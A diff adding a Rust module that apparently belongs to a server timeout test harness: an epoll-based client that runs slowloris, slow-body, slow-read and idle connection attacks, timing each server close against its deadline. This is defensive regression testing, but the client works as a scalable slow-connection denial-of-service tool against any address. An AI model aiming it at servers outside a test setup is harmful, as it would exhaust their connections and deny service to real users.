@@ -1,0 +1,847 @@
+//! The attack client: thousands of slow connections, each timing the moment
+//! it sees the server close it, against the deadline the server claims.
+//!
+//! ```text
+//!   run_attack ─► a few threads, each: one epoll + a heap of due times
+//!     connect (spread over open_over) ─► drip one byte per interval ─► close seen?
+//!        │                                                    │
+//!        │   reference: connect (slowloris), head sent (slow   ├─ FIN / RST / failed write
+//!        │   body), request sent (slow read), response read    │   at t: overshoot = t - deadline
+//!        │   (idle)                                            └─ still open at deadline + slack:
+//!        ▼                                                         a hang; we close it
+//!   deadline = reference + expected_timeout
+//! ```
+//!
+//! Timestamps are `CLOCK_MONOTONIC` nanoseconds taken right after
+//! `epoll_wait` returns, and the loop never sleeps a fixed tick: it waits
+//! exactly until the next drip (`epoll_pwait2`), handles at most
+//! [`DUE_BATCH`] drips before looking at the sockets again, so a close is
+//! seen within microseconds even while thousands of drips are due.
+//!
+//! What each mode measures:
+//!
+//! - **Slowloris**: `GET / HTTP/1.1\r\nHost: x\r\n`, then one byte of
+//!   `X-a: b\r\n` (repeating) per interval, never the final CRLF. The header
+//!   deadline runs from accept; the reference is the moment our connect
+//!   returned (on loopback the handshake is done inside it).
+//! - **SlowBody**: a full head announcing `Content-Length: 1000000`, then one
+//!   body byte per interval. Reference: the head was written.
+//! - **SlowRead**: `GET /bytes/N` on a socket with a 4 KiB receive buffer,
+//!   reading one byte per interval. Reference: the request was written, when
+//!   the server starts its response. The close is seen by `EPOLLRDHUP`, the
+//!   moment the FIN arrives, even with unread data queued before it. Servers
+//!   differ: one that closes with a FIN behind unsent data (the window is
+//!   shut) cannot get that FIN out; so a connection still open at deadline +
+//!   slack is drained at full speed for [`DRAIN_WINDOW`]. If a FIN follows the
+//!   data within it, the server had closed: `closed_behind_data`, untimed.
+//!   Otherwise it is a hang.
+//! - **Idle**: one full keep-alive `GET /`, its response read whole, then
+//!   nothing for `hold` (shorter than the server's idle timeout). Any close
+//!   before the hold ends is a false kill; afterwards we close cleanly.
+//!
+//! A close seen more than [`EARLY_TOLERANCE`] before the deadline is an early
+//! close: the server's timers are not that coarse, so something else (a
+//! connection cap, a head limit) closed it.
+
+use std::cmp::Reverse;
+use std::collections::BinaryHeap;
+use std::io::{self, Read, Write};
+use std::net::{SocketAddr, TcpStream};
+use std::os::fd::AsRawFd;
+use std::time::Duration;
+
+use crate::check::{BodyCheck, Expect, Progress, ResponseParser};
+use crate::load::{run_load, LoadConfig, LoadReport};
+use crate::stats::OvershootSummary;
+use crate::sys::{self, Connect, Epoll, Events, Interest, Ready, SocketOpts};
+
+/// How each attack connection misbehaves.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum AttackMode {
+    /// One header byte per `interval`, never finishing the head.
+    Slowloris { interval: Duration },
+    /// A complete head, then one body byte per `interval`.
+    SlowBody { interval: Duration },
+    /// Asks for `response_bytes` and reads one byte per `interval`.
+    SlowRead {
+        response_bytes: usize,
+        interval: Duration,
+    },
+    /// One full request and response, then silence for `hold`.
+    Idle { hold: Duration },
+}
+
+impl AttackMode {
+    pub fn name(&self) -> &'static str {
+        match self {
+            AttackMode::Slowloris { .. } => "slowloris",
+            AttackMode::SlowBody { .. } => "slow-body",
+            AttackMode::SlowRead { .. } => "slow-read",
+            AttackMode::Idle { .. } => "idle",
+        }
+    }
+}
+
+/// An attack run.
+#[derive(Clone, Debug)]
+pub struct AttackConfig {
+    pub target: SocketAddr,
+    pub mode: AttackMode,
+    pub connections: usize,
+    /// The connects are spread evenly over this window.
+    pub open_over: Duration,
+    /// The server's deadline for this mode (header, body, write timeout; for
+    /// `Idle` the idle timeout, informational: `hold` must stay below it).
+    pub expected_timeout: Duration,
+    /// A close later than deadline + slack is a hang.
+    pub slack: Duration,
+}
+
+/// What the attack saw. Every connection ends in exactly one of
+/// `connect_failed`, `closed`, `hangs`, `closed_behind_data`,
+/// `idle_unusable`, or (idle mode) held to the end and closed by us.
+#[derive(Clone, Debug, Default)]
+pub struct AttackReport {
+    pub mode: &'static str,
+    pub connections: usize,
+    pub opened: usize,
+    pub connect_failed: usize,
+    /// Closes by the server that the client saw and timed (early ones included).
+    pub closed: usize,
+    pub hangs: usize,
+    pub early_closes: usize,
+    pub fin_seen: usize,
+    pub reset_seen: usize,
+    pub write_failed_seen: usize,
+    /// Overshoot of the timed closes that were not early.
+    pub overshoot: OvershootSummary,
+    /// Every timed close's `seen - deadline` in ns, early ones included (negative).
+    pub overshoots_ns: Vec<i64>,
+    /// Idle: connections the server closed before the hold ended.
+    pub false_kills: usize,
+    /// Connections on which the server sent bytes (e.g. a 408) during the attack.
+    pub responses_seen: usize,
+    /// Slow read: still open at deadline + slack, then a FIN arrived behind the
+    /// queued data while draining. The server had closed; when is unknown.
+    pub closed_behind_data: usize,
+    /// Idle: the request before the idle period got no complete keep-alive
+    /// response (an error, `Connection: close`, or no answer in time).
+    pub idle_unusable: usize,
+    pub elapsed: Duration,
+}
+
+impl AttackReport {
+    /// Hangs, early closes and false kills: what a regression run fails on.
+    pub fn failures(&self) -> usize {
+        self.hangs + self.early_closes + self.false_kills
+    }
+}
+
+/// A close this much before its deadline is early.
+pub const EARLY_TOLERANCE: Duration = Duration::from_millis(5);
+/// Slow read: how long a connection still open at deadline + slack is drained.
+pub const DRAIN_WINDOW: Duration = Duration::from_secs(1);
+/// Drips and connects handled before the sockets are polled again.
+pub const DUE_BATCH: usize = 64;
+/// The receive buffer of a slow-read socket.
+pub const SLOW_READ_RCVBUF: usize = 4096;
+/// A connect or the idle request must be done within this.
+const SETUP_TIMEOUT: Duration = Duration::from_secs(5);
+const SLOWLORIS_DRIP: &[u8] = b"X-a: b\r\n";
+const SLOW_BODY_LENGTH: usize = 1_000_000;
+const CONNS_PER_THREAD: usize = 2500;
+
+/// Runs the attack and reports how the server closed each connection.
+pub fn run_attack(cfg: &AttackConfig) -> io::Result<AttackReport> {
+    if cfg.connections == 0 {
+        return Err(io::Error::new(
+            io::ErrorKind::InvalidInput,
+            "attack needs at least one connection",
+        ));
+    }
+    if let AttackMode::Slowloris { interval }
+    | AttackMode::SlowBody { interval }
+    | AttackMode::SlowRead { interval, .. } = cfg.mode
+    {
+        if interval.is_zero() {
+            return Err(io::Error::new(
+                io::ErrorKind::InvalidInput,
+                "drip interval must be positive",
+            ));
+        }
+    }
+    sys::ensure_fd_capacity(cfg.connections)?;
+    let threads = cfg.connections.div_ceil(CONNS_PER_THREAD).clamp(1, 4);
+    let start = sys::monotonic_ns();
+    // A common origin a little ahead, so every thread is up before the first connect.
+    let t0 = start + 10_000_000;
+    let handles: Vec<_> = (0..threads)
+        .map(|t| {
+            let cfg = cfg.clone();
+            std::thread::Builder::new()
+                .name(format!("attack-{t}"))
+                .spawn(move || AttackThread::new(&cfg, t, threads, t0).and_then(|mut th| th.run()))
+        })
+        .collect::<io::Result<_>>()?;
+    let mut report = AttackReport {
+        mode: cfg.mode.name(),
+        connections: cfg.connections,
+        ..AttackReport::default()
+    };
+    let mut first_err = None;
+    for h in handles {
+        match h.join() {
+            Ok(Ok(t)) => t.add_to(&mut report),
+            Ok(Err(e)) => first_err = first_err.or(Some(e)),
+            Err(_) => first_err = first_err.or(Some(io::Error::other("an attack thread panicked"))),
+        }
+    }
+    if let Some(e) = first_err {
+        return Err(e);
+    }
+    let timed: Vec<i64> = report
+        .overshoots_ns
+        .iter()
+        .copied()
+        .filter(|&o| o >= -(EARLY_TOLERANCE.as_nanos() as i64))
+        .collect();
+    report.overshoot = OvershootSummary::from_ns(&timed);
+    report.elapsed = Duration::from_nanos(sys::monotonic_ns() - start);
+    Ok(report)
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum Phase {
+    /// The connect is scheduled.
+    Scheduled,
+    Connecting,
+    /// Idle mode: the request is sent, its response not yet read whole.
+    Requesting,
+    /// Misbehaving (or idling) and watching for the close.
+    Holding,
+    /// Slow read past deadline + slack: reading at full speed to find a FIN.
+    Draining,
+    Done,
+}
+
+/// What is due at a heap entry.
+#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
+enum Due {
+    Connect,
+    Drip,
+    /// Deadline + slack (or the end of the idle hold, or a setup timeout).
+    Check,
+    /// The end of a slow-read drain.
+    DrainEnd,
+}
+
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+enum CloseKind {
+    Fin,
+    Reset,
+    WriteFailed,
+}
+
+struct Slot {
+    stream: Option<TcpStream>,
+    phase: Phase,
+    /// Where the server's deadline starts (see the module docs).
+    reference: u64,
+    drip_pos: usize,
+    sent_bytes: bool,
+    /// Idle mode: checks the one response.
+    parser: Option<ResponseParser>,
+    /// Idle mode: response bytes not yet consumed by the parser.
+    pending: Vec<u8>,
+}
+
+#[derive(Default)]
+struct Tally {
+    opened: usize,
+    connect_failed: usize,
+    closed: usize,
+    hangs: usize,
+    early_closes: usize,
+    fin_seen: usize,
+    reset_seen: usize,
+    write_failed_seen: usize,
+    overshoots_ns: Vec<i64>,
+    false_kills: usize,
+    responses_seen: usize,
+    closed_behind_data: usize,
+    idle_unusable: usize,
+}
+
+impl Tally {
+    fn add_to(self, r: &mut AttackReport) {
+        r.opened += self.opened;
+        r.connect_failed += self.connect_failed;
+        r.closed += self.closed;
+        r.hangs += self.hangs;
+        r.early_closes += self.early_closes;
+        r.fin_seen += self.fin_seen;
+        r.reset_seen += self.reset_seen;
+        r.write_failed_seen += self.write_failed_seen;
+        r.overshoots_ns.extend(self.overshoots_ns);
+        r.false_kills += self.false_kills;
+        r.responses_seen += self.responses_seen;
+        r.closed_behind_data += self.closed_behind_data;
+        r.idle_unusable += self.idle_unusable;
+    }
+}
+
+struct AttackThread {
+    target: SocketAddr,
+    mode: AttackMode,
+    expected_ns: u64,
+    slack_ns: u64,
+    epoll: Epoll,
+    slots: Vec<Slot>,
+    heap: BinaryHeap<Reverse<(u64, usize, Due)>>,
+    unresolved: usize,
+    /// Past this everything still open is a hang: the loop always stops.
+    hard_end: u64,
+    host: String,
+    scratch: Box<[u8]>,
+    tally: Tally,
+}
+
+fn ns(d: Duration) -> u64 {
+    d.as_nanos().min(u64::MAX as u128) as u64
+}
+
+impl AttackThread {
+    fn new(cfg: &AttackConfig, t: usize, threads: usize, t0: u64) -> io::Result<AttackThread> {
+        let mut slots = Vec::new();
+        let mut heap = BinaryHeap::new();
+        let spread = ns(cfg.open_over);
+        for k in (t..cfg.connections).step_by(threads) {
+            let at = t0 + (spread as u128 * k as u128 / cfg.connections as u128) as u64;
+            heap.push(Reverse((at, slots.len(), Due::Connect)));
+            slots.push(Slot {
+                stream: None,
+                phase: Phase::Scheduled,
+                reference: 0,
+                drip_pos: 0,
+                sent_bytes: false,
+                parser: None,
+                pending: Vec::new(),
+            });
+        }
+        let longest = match cfg.mode {
+            AttackMode::Idle { hold } => ns(hold) + ns(SETUP_TIMEOUT),
+            _ => ns(cfg.expected_timeout) + ns(DRAIN_WINDOW),
+        };
+        Ok(AttackThread {
+            target: cfg.target,
+            mode: cfg.mode,
+            expected_ns: ns(cfg.expected_timeout),
+            slack_ns: ns(cfg.slack),
+            epoll: Epoll::new()?,
+            unresolved: slots.len(),
+            slots,
+            heap,
+            hard_end: t0 + spread + longest + ns(cfg.slack) + ns(SETUP_TIMEOUT),
+            host: cfg.target.to_string(),
+            scratch: vec![0u8; 16 * 1024].into_boxed_slice(),
+            tally: Tally::default(),
+        })
+    }
+
+    fn run(&mut self) -> io::Result<Tally> {
+        let mut events = Events::with_capacity(1024);
+        while self.unresolved > 0 {
+            let now = sys::monotonic_ns();
+            if now >= self.hard_end {
+                for i in 0..self.slots.len() {
+                    if self.slots[i].phase != Phase::Done {
+                        self.give_up(i);
+                    }
+                }
+                break;
+            }
+            let more_due = self.run_due(now);
+            let timeout = if more_due {
+                Duration::ZERO
+            } else {
+                let next = self
+                    .heap
+                    .peek()
+                    .map_or(self.hard_end, |Reverse((at, _, _))| *at);
+                Duration::from_nanos(next.min(self.hard_end).saturating_sub(sys::monotonic_ns()))
+            };
+            self.epoll.wait(&mut events, Some(timeout))?;
+            // The moment these events were seen, for every one of them.
+            let seen = sys::monotonic_ns();
+            for e in 0..events.len() {
+                let (token, ready) = events.get(e);
+                self.on_ready(token as usize, ready, seen);
+            }
+        }
+        Ok(std::mem::take(&mut self.tally))
+    }
+
+    /// Handles up to [`DUE_BATCH`] due entries; true if more are due now.
+    fn run_due(&mut self, now: u64) -> bool {
+        for _ in 0..DUE_BATCH {
+            let Some(&Reverse((at, i, due))) = self.heap.peek() else {
+                return false;
+            };
+            if at > now {
+                return false;
+            }
+            self.heap.pop();
+            if self.slots[i].phase == Phase::Done {
+                continue;
+            }
+            match due {
+                Due::Connect => self.connect(i),
+                Due::Drip => self.drip(i, at),
+                Due::Check => self.check(i),
+                Due::DrainEnd => self.drain_end(i),
+            }
+        }
+        self.heap
+            .peek()
+            .is_some_and(|Reverse((at, _, _))| *at <= now)
+    }
+
+    fn connect(&mut self, i: usize) {
+        let opts = SocketOpts {
+            recv_buffer: matches!(self.mode, AttackMode::SlowRead { .. })
+                .then_some(SLOW_READ_RCVBUF),
+            nodelay: true,
+        };
+        let (stream, state) = match sys::connect_nonblocking(self.target, opts) {
+            Ok(s) => s,
+            Err(_) => return self.connect_failed(i),
+        };
+        let interest = match state {
+            Connect::Done => self.holding_interest(),
+            Connect::InProgress => Interest::ReadWrite,
+        };
+        if self
+            .epoll
+            .add(stream.as_raw_fd(), i as u64, interest)
+            .is_err()
+        {
+            return self.connect_failed(i);
+        }
+        let now = sys::monotonic_ns();
+        self.slots[i].stream = Some(stream);
+        match state {
+            Connect::Done => self.connected(i, now),
+            Connect::InProgress => {
+                self.slots[i].phase = Phase::Connecting;
+                self.heap
+                    .push(Reverse((now + ns(SETUP_TIMEOUT), i, Due::Check)));
+            }
+        }
+    }
+
+    fn holding_interest(&self) -> Interest {
+        match self.mode {
+            // Queued response bytes are read on the drip schedule, not on readiness.
+            AttackMode::SlowRead { .. } => Interest::CloseOnly,
+            _ => Interest::Read,
+        }
+    }
+
+    /// The handshake is done at `now`: send the opening bytes, start the clock.
+    fn connected(&mut self, i: usize, now: u64) {
+        self.tally.opened += 1;
+        let host = &self.host;
+        let opening: Vec<u8> = match self.mode {
+            AttackMode::Slowloris { .. } => {
+                format!("GET / HTTP/1.1\r\nHost: {host}\r\n").into_bytes()
+            }
+            AttackMode::SlowBody { .. } => format!(
+                "POST /echo HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/octet-stream\r\n\
+                 Content-Length: {SLOW_BODY_LENGTH}\r\n\r\n"
+            )
+            .into_bytes(),
+            AttackMode::SlowRead { response_bytes, .. } => {
+                format!("GET /bytes/{response_bytes} HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes()
+            }
+            AttackMode::Idle { .. } => {
+                format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n").into_bytes()
+            }
+        };
+        let slot = &mut self.slots[i];
+        let stream = slot.stream.as_mut().expect("connected slot has a socket");
+        // A fresh socket's send buffer takes a request head whole.
+        match stream.write(&opening) {
+            Ok(n) if n == opening.len() => {}
+            Ok(_) => return self.server_closed(i, sys::monotonic_ns(), CloseKind::WriteFailed),
+            Err(_) => return self.server_closed(i, sys::monotonic_ns(), CloseKind::WriteFailed),
+        }
+        let written = sys::monotonic_ns();
+        slot.reference = match self.mode {
+            // The header deadline runs from accept: our connect returning.
+            AttackMode::Slowloris { .. } => now,
+            AttackMode::SlowBody { .. } | AttackMode::SlowRead { .. } => written,
+            AttackMode::Idle { .. } => 0,
+        };
+        match self.mode {
+            AttackMode::Slowloris { interval }
+            | AttackMode::SlowBody { interval }
+            | AttackMode::SlowRead { interval, .. } => {
+                slot.phase = Phase::Holding;
+                let reference = slot.reference;
+                self.heap
+                    .push(Reverse((reference + ns(interval), i, Due::Drip)));
+                self.heap.push(Reverse((
+                    reference + self.expected_ns + self.slack_ns,
+                    i,
+                    Due::Check,
+                )));
+            }
+            AttackMode::Idle { .. } => {
+                slot.phase = Phase::Requesting;
+                slot.parser = Some(ResponseParser::new(Expect {
+                    status: None,
+                    body: BodyCheck::Any,
+                }));
+                self.heap
+                    .push(Reverse((written + ns(SETUP_TIMEOUT), i, Due::Check)));
+            }
+        }
+    }
+
+    fn drip(&mut self, i: usize, due: u64) {
+        let interval = match self.mode {
+            AttackMode::Slowloris { interval }
+            | AttackMode::SlowBody { interval }
+            | AttackMode::SlowRead { interval, .. } => interval,
+            AttackMode::Idle { .. } => return,
+        };
+        if self.slots[i].phase != Phase::Holding {
+            return;
+        }
+        let slot = &mut self.slots[i];
+        let stream = slot.stream.as_mut().expect("holding slot has a socket");
+        match self.mode {
+            AttackMode::SlowRead { .. } => {
+                let mut byte = [0u8; 1];
+                match stream.read(&mut byte) {
+                    Ok(0) => return self.server_closed(i, sys::monotonic_ns(), CloseKind::Fin),
+                    Ok(_) => slot.sent_bytes = true,
+                    Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
+                    Err(_) => return self.server_closed(i, sys::monotonic_ns(), CloseKind::Reset),
+                }
+            }
+            _ => {
+                let byte = match self.mode {
+                    AttackMode::Slowloris { .. } => {
+                        SLOWLORIS_DRIP[slot.drip_pos % SLOWLORIS_DRIP.len()]
+                    }
+                    _ => crate::check::echo_byte(slot.drip_pos),
+                };
+                match stream.write(&[byte]) {
+                    Ok(_) => slot.drip_pos += 1,
+                    // The server stopped reading; the bytes already queued keep it busy.
+                    Err(e) if e.kind() == io::ErrorKind::WouldBlock => {}
+                    Err(_) => {
+                        return self.server_closed(i, sys::monotonic_ns(), CloseKind::WriteFailed)
+                    }
+                }
+            }
+        }
+        // Scheduled from the previous due time, not from now: no drift.
+        self.heap.push(Reverse((due + ns(interval), i, Due::Drip)));
+    }
+
+    fn check(&mut self, i: usize) {
+        match self.slots[i].phase {
+            Phase::Connecting => self.connect_failed(i),
+            Phase::Requesting => {
+                self.tally.idle_unusable += 1;
+                self.close_ours(i);
+            }
+            Phase::Holding => match self.mode {
+                // The hold ended with the connection alive: what we wanted.
+                AttackMode::Idle { .. } => self.close_ours(i),
+                AttackMode::SlowRead { .. } => self.start_drain(i),
+                _ => {
+                    self.tally.hangs += 1;
+                    self.close_ours(i);
+                }
+            },
+            Phase::Scheduled | Phase::Draining | Phase::Done => {}
+        }
+    }
+
+    fn start_drain(&mut self, i: usize) {
+        let slot = &mut self.slots[i];
+        let fd = slot
+            .stream
+            .as_ref()
+            .expect("holding slot has a socket")
+            .as_raw_fd();
+        if self.epoll.modify(fd, i as u64, Interest::Read).is_err() {
+            self.tally.hangs += 1;
+            return self.close_ours(i);
+        }
+        slot.phase = Phase::Draining;
+        self.heap.push(Reverse((
+            sys::monotonic_ns() + ns(DRAIN_WINDOW),
+            i,
+            Due::DrainEnd,
+        )));
+    }
+
+    fn drain_end(&mut self, i: usize) {
+        if self.slots[i].phase == Phase::Draining {
+            self.tally.hangs += 1;
+            self.close_ours(i);
+        }
+    }
+
+    fn on_ready(&mut self, i: usize, ready: Ready, seen: u64) {
+        let phase = self.slots[i].phase;
+        if self.slots[i].stream.is_none() {
+            return;
+        }
+        match phase {
+            Phase::Connecting => {
+                let stream = self.slots[i].stream.as_ref().expect("checked above");
+                if ready.error() || ready.read_closed() || !matches!(stream.take_error(), Ok(None))
+                {
+                    return self.connect_failed(i);
+                }
+                if !ready.writable() {
+                    return;
+                }
+                let fd = stream.as_raw_fd();
+                if self
+                    .epoll
+                    .modify(fd, i as u64, self.holding_interest())
+                    .is_err()
+                {
+                    return self.connect_failed(i);
+                }
+                self.connected(i, seen);
+            }
+            Phase::Holding if matches!(self.mode, AttackMode::SlowRead { .. }) => {
+                // The FIN arrived; the data before it stays unread.
+                if ready.error() {
+                    let kind = self.reset_or_fin(i);
+                    self.server_closed(i, seen, kind);
+                } else if ready.read_closed() {
+                    self.server_closed(i, seen, CloseKind::Fin);
+                }
+            }
+            Phase::Requesting | Phase::Holding | Phase::Draining => {
+                if ready.readable() || ready.read_closed() || ready.error() {
+                    self.read_available(i, seen);
+                }
+            }
+            Phase::Scheduled | Phase::Done => {}
+        }
+    }
+
+    /// Reads what is queued (bounded by what the socket holds now) and
+    /// notices the close at its end.
+    fn read_available(&mut self, i: usize, seen: u64) {
+        // Bounded: a nonblocking socket runs dry; 64 reads of 16 KiB at most per event.
+        for _ in 0..64 {
+            let slot = &mut self.slots[i];
+            let stream = slot.stream.as_mut().expect("caller checked the socket");
+            match stream.read(&mut self.scratch) {
+                Ok(0) => {
+                    return if slot.phase == Phase::Draining {
+                        self.tally.closed_behind_data += 1;
+                        self.tally.fin_seen += 1;
+                        self.close_ours(i)
+                    } else {
+                        self.server_closed(i, seen, CloseKind::Fin)
+                    };
+                }
+                Ok(n) => {
+                    if slot.phase == Phase::Draining {
+                        continue;
+                    }
+                    if !slot.sent_bytes {
+                        slot.sent_bytes = true;
+                        if slot.phase != Phase::Requesting {
+                            self.tally.responses_seen += 1;
+                        }
+                    }
+                    if slot.phase == Phase::Requesting {
+                        self.idle_response_bytes(i, n, seen);
+                        if self.slots[i].phase == Phase::Done {
+                            return;
+                        }
+                    }
+                }
+                Err(e) if e.kind() == io::ErrorKind::WouldBlock => return,
+                Err(e) if e.kind() == io::ErrorKind::Interrupted => {}
+                Err(_) => {
+                    return if self.slots[i].phase == Phase::Draining {
+                        self.tally.closed_behind_data += 1;
+                        self.tally.reset_seen += 1;
+                        self.close_ours(i)
+                    } else {
+                        self.server_closed(i, seen, CloseKind::Reset)
+                    };
+                }
+            }
+        }
+    }
+
+    /// Idle mode: feeds response bytes; once the response is whole, the hold starts.
+    fn idle_response_bytes(&mut self, i: usize, n: usize, seen: u64) {
+        let slot = &mut self.slots[i];
+        slot.pending.extend_from_slice(&self.scratch[..n]);
+        let parser = slot.parser.as_mut().expect("idle slot has a parser");
+        let mut used = 0;
+        let outcome = loop {
+            match parser.feed(&slot.pending[used..]) {
+                Ok((0, Progress::Partial)) => break None,
+                Ok((k, Progress::Partial)) => used += k,
+                Ok((k, Progress::Complete { keep_alive, .. })) => {
+                    break Some((used + k, keep_alive))
+                }
+                Err(_) => {
+                    self.tally.idle_unusable += 1;
+                    return self.close_ours(i);
+                }
+            }
+        };
+        let Some((used, keep_alive)) = outcome else {
+            slot.pending.drain(..used);
+            return;
+        };
+        if !keep_alive || used < slot.pending.len() {
+            // Not kept alive, or bytes nobody asked for: no idle test possible.
+            self.tally.idle_unusable += 1;
+            return self.close_ours(i);
+        }
+        slot.phase = Phase::Holding;
+        slot.parser = None;
+        slot.pending = Vec::new();
+        slot.reference = seen;
+        let AttackMode::Idle { hold } = self.mode else {
+            unreachable!("only idle slots request")
+        };
+        self.heap.push(Reverse((seen + ns(hold), i, Due::Check)));
+    }
+
+    fn reset_or_fin(&self, i: usize) -> CloseKind {
+        let stream = self.slots[i]
+            .stream
+            .as_ref()
+            .expect("caller checked the socket");
+        match stream.take_error() {
+            Ok(Some(e)) if e.kind() == io::ErrorKind::ConnectionReset => CloseKind::Reset,
+            Ok(Some(_)) => CloseKind::Reset,
+            _ => CloseKind::Fin,
+        }
+    }
+
+    /// The server closed slot `i`; the client saw it at `at`.
+    fn server_closed(&mut self, i: usize, at: u64, kind: CloseKind) {
+        let phase = self.slots[i].phase;
+        match kind {
+            CloseKind::Fin => self.tally.fin_seen += 1,
+            CloseKind::Reset => self.tally.reset_seen += 1,
+            CloseKind::WriteFailed => self.tally.write_failed_seen += 1,
+        }
+        self.tally.closed += 1;
+        match self.mode {
+            AttackMode::Idle { .. } => {
+                if phase == Phase::Requesting {
+                    self.tally.idle_unusable += 1;
+                } else {
+                    self.tally.false_kills += 1;
+                }
+            }
+            _ => {
+                let deadline = self.slots[i].reference + self.expected_ns;
+                let overshoot = at as i64 - deadline as i64;
+                self.tally.overshoots_ns.push(overshoot);
+                if overshoot < -(EARLY_TOLERANCE.as_nanos() as i64) {
+                    self.tally.early_closes += 1;
+                }
+            }
+        }
+        self.finish(i);
+    }
+
+    fn connect_failed(&mut self, i: usize) {
+        self.tally.connect_failed += 1;
+        self.finish(i);
+    }
+
+    /// Hard stop: whatever is unresolved counts as a hang.
+    fn give_up(&mut self, i: usize) {
+        match self.slots[i].phase {
+            Phase::Scheduled | Phase::Connecting => self.tally.connect_failed += 1,
+            Phase::Requesting => self.tally.idle_unusable += 1,
+            _ => self.tally.hangs += 1,
+        }
+        self.finish(i);
+    }
+
+    /// We close it (end of the hold, a hang, a drain): a plain FIN.
+    fn close_ours(&mut self, i: usize) {
+        self.finish(i);
+    }
+
+    fn finish(&mut self, i: usize) {
+        let slot = &mut self.slots[i];
+        if slot.phase == Phase::Done {
+            return;
+        }
+        // Dropping the socket closes it and removes it from the epoll set.
+        slot.stream = None;
+        slot.parser = None;
+        slot.pending = Vec::new();
+        slot.phase = Phase::Done;
+        self.unresolved -= 1;
+    }
+}
+
+/// An attack and the legit load that ran beside it, with the same load's
+/// baseline measured alone just before.
+#[derive(Clone, Debug)]
+pub struct AttackWithLoad {
+    pub attack: AttackReport,
+    pub legit_baseline: LoadReport,
+    pub legit_under_attack: LoadReport,
+}
+
+impl AttackWithLoad {
+    /// Legit requests per second under attack as a share of the baseline.
+    pub fn legit_kept_percent(&self) -> f64 {
+        let base = self.legit_baseline.requests_per_sec();
+        if base <= 0.0 {
+            return 0.0;
+        }
+        100.0 * self.legit_under_attack.requests_per_sec() / base
+    }
+}
+
+/// Runs `load` alone (the baseline), then `attack` and `load` together, both
+/// starting at once: give `load` a duration that covers the attack's window
+/// (`open_over + expected_timeout + slack`) to measure it under attack.
+pub fn run_attack_with_load(
+    attack: &AttackConfig,
+    load: &LoadConfig,
+) -> io::Result<AttackWithLoad> {
+    sys::ensure_fd_capacity(attack.connections + load.connections)?;
+    let legit_baseline = run_load(load)?;
+    let attack_cfg = attack.clone();
+    let attacker = std::thread::Builder::new()
+        .name("attack".into())
+        .spawn(move || run_attack(&attack_cfg))?;
+    let legit_under_attack = run_load(load);
+    let attack = attacker
+        .join()
+        .map_err(|_| io::Error::other("the attack thread panicked"))??;
+    Ok(AttackWithLoad {
+        attack,
+        legit_baseline,
+        legit_under_attack: legit_under_attack?,
+    })
+}
